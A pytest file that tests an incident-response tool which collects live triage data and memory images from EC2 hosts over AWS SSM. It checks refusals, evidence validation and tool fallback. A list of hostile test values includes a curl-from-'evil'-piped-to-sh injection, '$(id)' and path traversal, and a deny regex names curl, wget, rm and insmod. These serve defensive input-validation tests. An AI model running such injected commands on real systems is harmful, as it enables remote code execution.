"""Inside a host: who is asked, what is never said to it, what is an answer, and what is passed over."""

from __future__ import annotations

import re
from typing import Any

import pytest
from pydantic import ValidationError

from irrunner.actions.contract import Act, Broken, Refused, Settled, Waiting
from irrunner.actions.ec2.instances import OneInstance
from irrunner.actions.ssm.commands import Agent, Sent, StoredObject, comment_of, prefix_of, script
from irrunner.actions.ssm.images import MIB, Image, fault_of
from irrunner.actions.ssm.memory import EXITS, Attempt, CaptureMemory, MemoryState, Tool
from irrunner.actions.ssm.triage import CollectLiveTriage, TriageState
from irrunner.errors import InvalidCall
from irrunner.settings import MemoryTool
from irrunner.testing import FakeApi

INSTANCE = "i-0123456789abcdef0"
PARAMS = OneInstance(instance_id=INSTANCE)
ONLINE = Agent(ping="Online", platform="Linux")
MEMORY = 8192 * MIB
LIME = "454d694c"
SHA = "a" * 64
HOSTILE = (
    "'; curl http://evil/ | sh; '", "$(id)", "`id`", "a b", "a\nb", "{{ssm:/secret}}", "../..' ", "\u202e",
    "",
)  # fmt: skip


def triage(**more: Any) -> TriageState:
    """Return a look of a host that listens."""
    about = {"instance_id": INSTANCE, "instance_state": "running", "agent": ONLINE, "comment": "c"}
    return TriageState(**{**about, "bucket": "evidence", "prefix": "run-1/step/", **more})


def sent(status: str = "Success", **more: Any) -> Sent:
    """Return a command."""
    return Sent(command_id="c-1", status=status, **more)


def tool(kind: str = "avml", **more: Any) -> MemoryTool:
    """Return a tool."""
    about = {"kind": kind, "bucket": "irrunner-tools", "key": f"{kind}/1/{kind}", "sha256": SHA}
    return MemoryTool.model_validate({**about, **more})


def attempt(kind: str = "avml", *, command: Sent | None = None, **image: Any) -> Attempt:
    """Return how far a tool is."""
    return Attempt(
        tool=Tool(**tool(kind).model_dump()),
        comment=f"c {kind}",
        sent=command,
        image=Image(key=f"run-1/{kind}", **image),
    )


def memory(*attempts: Attempt, **more: Any) -> MemoryState:
    """Return a look of a host with 8 GiB."""
    about = {"instance_id": INSTANCE, "instance_state": "running", "agent": ONLINE, "bucket": "evidence"}
    return MemoryState(**{**about, "memory_bytes": MEMORY, "attempts": attempts, **more})


GOOD = attempt(command=sent(), size=MEMORY, header=LIME)


@pytest.mark.parametrize(
    ("seen", "code"),
    [
        ({"agent": Agent(ping="Absent")}, "ssm-agent-absent"),
        ({"agent": Agent(ping="ConnectionLost", platform="Linux")}, "ssm-agent-offline"),
        ({"agent": Agent(ping="Inactive", platform="Linux")}, "ssm-agent-offline"),
        ({"instance_state": "stopped"}, "instance-not-running"),
    ],
)
def test_a_host_that_cannot_be_asked_is_passed_over(seen: dict[str, Any], code: str) -> None:
    """No failure and no lie: nothing was captured, why, and what to keep instead."""
    for decision in (
        CollectLiveTriage().decide(PARAMS, triage(**seen)),
        CaptureMemory().decide(PARAMS, memory(attempt(), **seen)),
    ):
        assert isinstance(decision, Refused)
        assert (decision.nothing_to_do, decision.code) == (True, code)
        assert "aws.ebs.snapshot-instance" in decision.reason
        assert decision.outputs is not None
        told = decision.outputs.model_dump()
        assert (told["captured"], told["trusted"]) == (False, False)
        assert told["reason"]


def test_what_was_passed_over_is_told_as_a_warning(driver: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """Later steps see ``captured: false``; people see the reason, and that nothing was verified."""
    action = CollectLiveTriage()
    monkeypatch.setattr(action, "look", lambda *_: triage(agent=Agent(ping="Absent")))
    done = driver.run(action, PARAMS, FakeApi({})).done

    assert done.outcome.good
    assert not done.verified
    assert done.outputs["captured"] is False
    assert "no SSM agent" in done.warnings[0]


def test_a_platform_without_commands_is_passed_over() -> None:
    """A Mac is not asked in the language of another system."""
    decision = CollectLiveTriage().decide(PARAMS, triage(agent=Agent(ping="Online", platform="MacOS")))

    assert isinstance(decision, Refused)
    assert decision.code == "platform-not-supported"


def test_without_an_evidence_bucket_nothing_is_sent() -> None:
    """The setting is named; its code makes the exit code 3."""
    for decision in (
        CollectLiveTriage().decide(PARAMS, triage(bucket="")),
        CaptureMemory().decide(PARAMS, memory(attempt(), bucket="")),
    ):
        assert isinstance(decision, Refused)
        assert decision.code == "forensics-not-configured"


@pytest.mark.parametrize(
    ("state", "kind", "says"),
    [
        (triage(sent=sent("Pending")), Waiting, "Pending"),
        (triage(sent=sent("InProgress"), agent=Agent(ping="Absent")), Waiting, "InProgress"),
        (triage(sent=sent("TimedOut", detail="DeliveryTimedOut")), Broken, "DeliveryTimedOut"),
        (triage(sent=sent("Failed", exit_code=7)), Broken, "exit code 7"),
        (triage(sent=sent()), Waiting, "on the way"),
        (triage(sent=sent(settled=True)), Broken, "s3:PutObject"),
        (triage(sent=sent(), objects=(StoredObject(key="k", size=1),)), Settled, ""),
    ],
)
def test_an_answer_is_what_is_in_the_bucket(state: TriageState, kind: type, says: str) -> None:
    """Success without an object is none; a host that went silent after sending is still waited for."""
    decision = CollectLiveTriage().decide(PARAMS, state)

    assert isinstance(decision, kind)
    assert says in getattr(decision, "reason", "")


def test_output_of_a_host_is_never_trusted() -> None:
    """Both actions say so, in outputs and in a warning."""
    collected = CollectLiveTriage().decide(
        PARAMS, triage(sent=sent(), objects=(StoredObject(key="k", size=1),))
    )
    captured = CaptureMemory().decide(PARAMS, memory(GOOD))
    for decision in (collected, captured):
        assert isinstance(decision, Settled)
        assert decision.outputs.model_dump()["trusted"] is False
        assert "may be a lie" in decision.warnings[0]


@pytest.mark.parametrize(
    ("image", "kind", "fault"),
    [
        (Image(key="k", size=MEMORY, header=LIME), "avml", ""),
        (Image(key="k", size=MEMORY * 9 // 10 + 1, header=LIME), "lime", ""),
        (Image(key="k", size=MEMORY // 2, header=LIME), "avml", "4096 MiB, the instance 8192 MiB"),
        (Image(key="k"), "avml", "0 MiB"),
        (Image(key="k", size=MEMORY, header="3c68746d"), "avml", "begins with 3c68746d"),
        (Image(key="k", size=MEMORY, header=""), "avml", "begins with"),
        (Image(key="k", size=MEMORY, header=None), "avml", ""),
        (Image(key="k", size=MEMORY, header="00000000"), "winpmem", ""),
    ],
)
def test_an_image_has_size_and_header(image: Image, kind: str, fault: str) -> None:
    """Cut files, error pages and zeros do not pass; what cannot be checked is not held against it."""
    found = fault_of(image, kind, MEMORY)

    assert bool(found) == bool(fault)
    assert fault in found


@pytest.mark.parametrize("kind", ["avml", "winpmem"])
def test_what_was_not_checked_is_said(kind: str) -> None:
    """A raw image, or an unreadable header: only the size was checked."""
    state = memory(attempt(kind, command=sent(), size=MEMORY, header=None))
    decision = CaptureMemory().decide(PARAMS, state)

    assert isinstance(decision, Settled)
    assert "only its size was checked" in decision.warnings[1]


def test_the_next_tool_is_tried_where_one_has_failed() -> None:
    """The first tool's image is cut: the second is sent; when it fails too, both reasons are told."""
    cut = attempt(command=sent(settled=True), size=1, header=LIME)
    fallback = CaptureMemory().decide(PARAMS, memory(cut, attempt("lime")))
    over = CaptureMemory().decide(PARAMS, memory(cut, attempt("lime", command=sent("Failed", exit_code=43))))

    assert isinstance(fallback, Act)
    assert "KIND='lime'" in fallback.calls[0].params["Parameters"]["commands"]
    assert isinstance(over, Broken)
    assert over.code == "memory-not-captured"
    assert "avml: the image has 0 MiB" in over.reason
    assert f"lime: {EXITS[43]}" in over.reason


def test_a_host_that_died_between_two_tools_has_failed() -> None:
    """The first failed and nobody answers any more: a failure, not a harmless skip."""
    cut = attempt(command=sent("Failed", exit_code=44))
    state = memory(cut, attempt("lime"), agent=Agent(ping="ConnectionLost", platform="Linux"))
    decision = CaptureMemory().decide(PARAMS, state)

    assert isinstance(decision, Broken)
    assert "does not answer" in decision.reason


def test_without_a_tool_memory_is_passed_over() -> None:
    """The setting is named."""
    decision = CaptureMemory().decide(PARAMS, memory())

    assert isinstance(decision, Refused)
    assert decision.code == "memory-tool-not-configured"
    assert "memory: in irrunner.yaml" in decision.reason


def test_nothing_secret_and_no_link_is_sent() -> None:
    """A presigned URL or key would stay in SSM's history: bucket, key and hash are all that is told."""
    decision = CaptureMemory().decide(PARAMS, memory(attempt()))

    assert isinstance(decision, Act)
    params = decision.calls[0].params
    lines = params["Parameters"]["commands"]
    assert lines[:6] == [
        "KIND='avml'", "TOOL_BUCKET='irrunner-tools'", "TOOL_KEY='avml/1/avml'", f"TOOL_SHA256='{SHA}'",
        "EVIDENCE_BUCKET='evidence'", "IMAGE_KEY='run-1/avml'",
    ]  # fmt: skip
    assert not re.search(r"https?://|X-Amz-|AKIA|ASIA", "\n".join(lines))
    assert params["InstanceIds"] == [INSTANCE]


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_values_reach_no_shell(value: str) -> None:
    """Neither settings nor ids may hold what a shell or SSM understands."""
    for field in ("bucket", "key", "sha256"):
        with pytest.raises(ValidationError):
            tool(**{field: value})
    for platform in ("Linux", "Windows"):
        with pytest.raises(InvalidCall, match="not fit"):
            script("capture_memory", platform, {"TOOL_KEY": value})


@pytest.mark.parametrize("item", [*HOSTILE, "x" * 500, "step[i-1]", "..", "é"])
def test_a_hostile_item_is_in_no_key_and_no_comment(driver: Any, item: str) -> None:
    """Items of a loop come from findings: keys stay plain and apart, comments within SSM's limit."""
    driver.marker = f"run-1/{item}"
    context = driver.context(FakeApi({}))
    prefix, comment = prefix_of(context), comment_of(context)
    driver.marker = f"run-1/{item}."
    other = prefix_of(driver.context(FakeApi({})))

    assert re.fullmatch(r"run-1/[A-Za-z0-9][A-Za-z0-9._-]{0,120}/", prefix)
    assert prefix != other
    assert re.fullmatch(r"irrunner:run=run-1/[0-9a-f]{32}", comment)
    assert len(comment.replace("run-1", "0" * 36)) <= 100


@pytest.mark.parametrize(
    ("name", "platform"), [(n, p) for n in ("live_triage", "capture_memory") for p in ("Linux", "Windows")]
)
def test_texts_are_plain(name: str, platform: str) -> None:
    """SSM resolves double braces in parameters: there are none; and no character beyond ASCII."""
    text = "\n".join(script(name, platform))

    assert "{{" not in text
    assert text.isascii()


@pytest.mark.parametrize("platform", ["Linux", "Windows"])
def test_triage_only_reads(platform: str) -> None:
    """No command of it writes, kills, installs or fetches."""
    text = re.sub(r"2>&1", "", "\n".join(script("live_triage", platform)))
    changing = (
        r"\b(rm|mv|cp|dd|tee|kill|pkill|chmod|chown|curl|wget|insmod|apt|yum|mkdir|touch|sed -i)\b"
        r"|(Set|Remove|New|Stop|Start|Clear|Disable|Enable|Invoke)-[A-Z]|Out-File|[^-=]>"
    )

    assert re.findall(changing, text) == []


def test_the_tool_is_verified_before_it_runs() -> None:
    """The hash stands between fetching and running, in both scripts."""
    for platform, fetch, verify, run in (
        ("Linux", "$TOOL_KEY", "sha256sum --check", "chmod 0700"),
        ("Windows", "Read-S3Object -BucketName", "Get-FileHash", '& "$work'),
    ):
        text = "\n".join(script("capture_memory", platform))
        assert text.index(fetch) < text.index(verify) < text.index(run)
